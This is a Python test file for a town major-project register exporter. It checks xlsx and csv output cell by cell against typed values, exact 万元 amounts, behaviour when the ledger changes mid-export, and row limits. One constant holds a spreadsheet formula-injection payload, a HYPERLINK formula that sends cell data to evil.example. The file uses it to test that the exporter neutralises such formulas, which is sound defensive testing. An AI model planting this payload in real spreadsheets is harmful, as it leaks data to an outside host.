"""The register export, cell by cell, against a sheet written out by hand.

Every expected value below is typed in, not computed: amounts in 万元 as an office reads
them (a whole number, a float of at most 15 digits, text where a float would lose the
fen), labels, 起止年限, days, the 合计 row. The .xlsx is read with openpyxl, which shares
nothing with the exporter."""

from __future__ import annotations

import csv
from datetime import date
from fractions import Fraction
from pathlib import Path

import attrs
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import townplan as tp
from townplan.cli.errors_zh import describe
from townplan.errors import ConflictError, ValidationError
from townplan.io import export_register
from townplan.io.sheets.stored_writer import Stored, wan_number, write_stored
from townplan.io.sheets.writer import Column, amount, xlsx_value
from townplan.ledger import LedgerStore

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"点击查看")'

HEADER = [
    "序号", "项目编号", "项目名称", "建设内容", "总投资（万元）", "政府投资（万元）",
    "社会投资（万元）", "2013年度计划投资（万元）", "项目类别", "建设阶段", "项目性质",
    "所属板块/片区", "所属村（社区）", "责任单位", "挂点领导", "起止年限", "所属镇",
    "计划开工时间", "计划竣工时间", "年度工作目标",
]  # fmt: skip

#: The rows as of 2013-05-31, before P001's plan rose to 500万.
ROWS = [
    [1, "P001", "中心大道", "道路拓宽及管网改造", 1200, 1200, None, 300,
     "基础设施", "续建", "建设", "水乡新城区", "新基村", "城建办", "副镇长", "2012-2015",
     "示例镇", "2013-03-01", None, "完成路基"],
    [2, "P002", HYPERLINK, "+1", 3.373456, 0.123456, 3.25, None,
     "民生", "新开工", "建设", None, None, None, None, "2013",
     "示例镇", None, "2014-06-30", None],
    [3, "P003", "临港产业园", None, "1234567890.123456", "1234567890.123456", None, 1e-06,
     "产业", "前期", "预备", "现代临港产业区", None, None, None, "2013-",
     "示例镇", None, None, None],
    [4, "P004", "中远海洋工程", None, "12700万美元", "0万美元", "12700万美元", "0万美元",
     "产业", "竣工", "建设", None, None, None, None, "-2015",
     "示例镇", None, None, None],
]  # fmt: skip
TOTAL = ["合计", None, "4个项目", None, "1234569093.496912", "1234569090.246912", 3.25,
         300.000001] + [None] * 12  # fmt: skip


def ledger(path: str | Path = ":memory:") -> LedgerStore:
    store = LedgerStore.open(path)
    store.add_zones(["水乡新城区", "现代临港产业区"])
    store.add_units(["城建办"])
    cny = tp.Money.parse
    projects = [
        tp.Project(
            code="P001", name="中心大道", content="道路拓宽及管网改造",
            category=tp.Category.INFRASTRUCTURE, stage=tp.Stage.CONTINUING,
            government_investment=cny("1200万"), annual_plan=cny("300万"), plan_year=2013,
            zone="水乡新城区", village="新基村", responsible_unit="城建办", leader="副镇长",
            start_year=2012, end_year=2015, town="示例镇", planned_start=date(2013, 3, 1),
            annual_goal="完成路基",
        ),
        tp.Project(
            code="P002", name=HYPERLINK, content="+1", category=tp.Category.LIVELIHOOD,
            stage=tp.Stage.NEW_START, government_investment=cny("1234.56元"),
            social_investment=cny("3.25万"), plan_year=2013, start_year=2013,
            end_year=2013, town="示例镇", planned_finish=date(2014, 6, 30),
        ),
        tp.Project(
            code="P003", name="临港产业园", category=tp.Category.INDUSTRY,
            kind=tp.ProjectKind.RESERVE,
            government_investment=cny("12345678901234.56元"), annual_plan=cny("0.01元"),
            plan_year=2013, zone="现代临港产业区", start_year=2013, town="示例镇",
        ),
        tp.Project(
            code="P004", name="中远海洋工程", category=tp.Category.INDUSTRY,
            stage=tp.Stage.COMPLETED, government_investment=tp.Money.zero("USD"),
            social_investment=cny("1.27亿美元"), annual_plan=tp.Money.zero("USD"),
            plan_year=2013, end_year=2015, town="示例镇",
        ),
    ]  # fmt: skip
    store.add_projects(projects, on=date(2013, 1, 1), recorded_at=date(2013, 1, 1))
    later = attrs.evolve(projects[0], annual_plan=cny("500万"))
    store.update_project(later, on=date(2013, 6, 1), recorded_at=date(2013, 6, 1))
    return store


def test_the_xlsx_register_holds_what_was_typed(tmp_path: Path) -> None:
    with ledger() as store:
        path = export_register(store.as_of(date(2013, 5, 31)), tmp_path / "register.xlsx")
        live = export_register(store, tmp_path / "live.xlsx")
    ws = openpyxl.load_workbook(path).active
    cells = [[c.value for c in row] for row in ws.iter_rows()]
    assert cells[0][0] == "示例镇 重大项目库"
    assert cells[1] == HEADER
    assert cells[2:-1] == ROWS
    assert cells[-1] == TOTAL
    assert len(cells) == 2 + len(ROWS) + 1
    assert ws["C4"].data_type == "s"  # the formula-like name is text, never a formula
    money = [ws.cell(row, col) for row in range(3, 8) for col in range(5, 9)]
    assert {c.number_format for c in money if c.value is not None} == {"0.00"}
    assert all(c.font.bold for c in ws[7] if c.value is not None)
    assert openpyxl.load_workbook(live).active["H3"].value == 500  # the plan as it stands


def test_the_csv_register_holds_what_was_typed(tmp_path: Path) -> None:
    with ledger() as store:
        path = export_register(store.as_of(date(2013, 5, 31)), tmp_path / "register.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        lines = list(csv.reader(f))
    assert lines[0] == ["示例镇 重大项目库"]
    assert lines[1] == HEADER
    assert lines[2][4:8] == ["1200", "1200", "", "300"]
    assert lines[3][2:8] == ["'" + HYPERLINK, "'+1", "3.373456", "0.123456", "3.25", ""]
    assert lines[4][4:8] == ["1234567890.123456", "1234567890.123456", "", "0.000001"]
    assert lines[5][4:8] == ["12700万美元", "0万美元", "12700万美元", "0万美元"]
    assert lines[5][15] == "'-2015"  # an open start reads back, never as a formula
    assert lines[6][:8] == ["合计", "", "4个项目", "", "1234569093.496912",
                            "1234569090.246912", "3.25", "300.000001"]  # fmt: skip


@given(st.integers(-(10**17) + 1, 10**17 - 1))
def test_an_amount_cell_is_the_exact_quotient(fen: int) -> None:
    number = wan_number(fen)
    general = xlsx_value(amount(tp.Money.from_fen(fen), "CNY"))
    if abs(fen) >= 10**15:
        assert number is None  # left to the general path
        return
    exact = Fraction(fen, 1_000_000)
    expected = int(exact) if exact.denominator == 1 else float(exact)
    assert (type(number), number) == (type(expected), expected)
    assert (type(general), general) == (type(expected), expected)


def test_a_project_another_program_adds_during_the_export_waits_for_the_next(
    tmp_path: Path,
) -> None:
    file = tmp_path / "town.db"
    ledger(file).close()
    path = tmp_path / "register.xlsx"

    def meanwhile(done: int, total: int) -> None:
        if done == 0:  # the layout is chosen; another program adds a 2014 project
            late = tp.Project(code="P005", name="新项目", category=tp.Category.INDUSTRY,
                              plan_year=2014)  # fmt: skip
            with LedgerStore.open(file) as other:
                other.add_project(late)

    with LedgerStore.open(file) as store:
        export_register(store, path, on_progress=meanwhile)
        first = openpyxl.load_workbook(path).active
        assert "计划年度" not in [c.value for c in first[2]]
        assert "P005" not in [c.value for c in first["B"]]
        export_register(store, path)  # again, with the layout as it now is
    assert openpyxl.load_workbook(path).active["I2"].value == "计划年度"


def test_an_in_memory_ledger_changed_during_the_export_leaves_no_file(tmp_path: Path) -> None:
    path = tmp_path / "register.xlsx"
    with ledger() as store:

        def meanwhile(done: int, total: int) -> None:
            if done == 0:  # the layout is chosen; the hook adds a 2014 project
                store.add_project(tp.Project(code="P005", name="新项目", plan_year=2014,
                                             category=tp.Category.INDUSTRY))  # fmt: skip

        with pytest.raises(ConflictError, match="changed while") as raised:
            export_register(store, path, on_progress=meanwhile)
        assert not path.exists()
    assert "另一程序写入了台账" in describe(raised.value)  # and in a Chinese run


def test_a_sheet_too_long_for_xlsx_is_refused(tmp_path: Path) -> None:
    columns = [Stored.value(Column("项目编号"), 0)]
    with pytest.raises(ValidationError, match=r"write a \.csv") as raised:
        write_stored(tmp_path / "r.xlsx", "s", "t", columns, [], count=1_048_575,
                     currency_at=0, currency="CNY")  # fmt: skip
    assert not (tmp_path / "r.xlsx").exists()
    assert ".xlsx 工作表最多 1,048,574 行" in describe(raised.value)
